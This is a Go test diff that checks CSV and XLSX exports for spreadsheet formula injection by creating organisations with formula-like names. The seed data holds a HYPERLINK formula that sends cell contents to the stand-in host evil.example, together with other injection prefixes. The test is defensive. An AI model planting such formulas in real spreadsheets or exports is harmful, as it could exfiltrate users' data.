@@ -11,6 +11,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -984,4 +985,95 @@ func TestCacheScopes(t *testing.T) {
 			t.Errorf("%d entries, %d fetches", len(c.m), c.fetches)
 		}
 	})
+}
+
+// An org named like a formula is text in every export: neutralised in csv
+// (a spreadsheet would run it), a plain string in xlsx; negative amounts
+// stay numbers.
+func TestExportFormulaNames(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
+		seed(t, b.Store)
+		ctx := context.Background()
+		names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"点击")`, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"}
+		for _, name := range names {
+			o := &model.Org{Name: name, Kind: model.OrgCanteen, RegionCode: "330604", PaymentTerms: model.TermsPrepay,
+				CreditKind: model.CreditDirect}
+			if err := b.Store.CreateOrg(ctx, o); err != nil {
+				t.Fatal(err)
+			}
+		}
+		s := stats.New(b.Store, nil)
+
+		file, err := s.Export(ctx, admin, stats.ExportInput{Year: 2026, Format: stats.FormatCSV, Table: stats.TableOrgs})
+		if err != nil {
+			t.Fatal(err)
+		}
+		recs, err := readCSV(file.Body[3:])
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen := map[string]bool{}
+		for _, rec := range recs[1:] {
+			for _, cell := range rec {
+				if cell == "" {
+					continue
+				}
+				if strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+					t.Errorf("csv cell %q starts like a formula", cell)
+				}
+				if cell[0] == '-' && !isNumber(cell) {
+					t.Errorf("csv cell %q starts like a formula", cell)
+				}
+				if strings.HasPrefix(cell, "'") {
+					seen[cell[1:]] = true
+				}
+			}
+		}
+		for _, name := range names {
+			// the csv writer (CRLF lines, as Excel wants) drops a lone CR
+			if !seen[strings.ReplaceAll(name, "\r", "")] {
+				t.Errorf("org %q is not in the csv as inert text", name)
+			}
+		}
+
+		file, err = s.Export(ctx, admin, stats.ExportInput{Year: 2026, Format: stats.FormatXLSX})
+		if err != nil {
+			t.Fatal(err)
+		}
+		x, err := excelize.OpenReader(bytes.NewReader(file.Body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer x.Close()
+		rows, err := x.GetRows("单位统计", excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := 0
+		for r, row := range rows {
+			for c, v := range row {
+				for _, name := range names {
+					if v != name {
+						continue
+					}
+					found++
+					ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
+					if formula, _ := x.GetCellFormula("单位统计", ref); formula != "" {
+						t.Errorf("xlsx %s holds a formula %q", ref, formula)
+					}
+					if typ, _ := x.GetCellType("单位统计", ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
+						t.Errorf("xlsx %s (%q) has type %v, want a string", ref, v, typ)
+					}
+				}
+			}
+		}
+		if found != len(names) {
+			t.Errorf("xlsx holds %d of the %d names verbatim", found, len(names))
+		}
+	})
+}
+
+func isNumber(s string) bool {
+	_, err := strconv.ParseFloat(s, 64)
+	return err == nil
 }
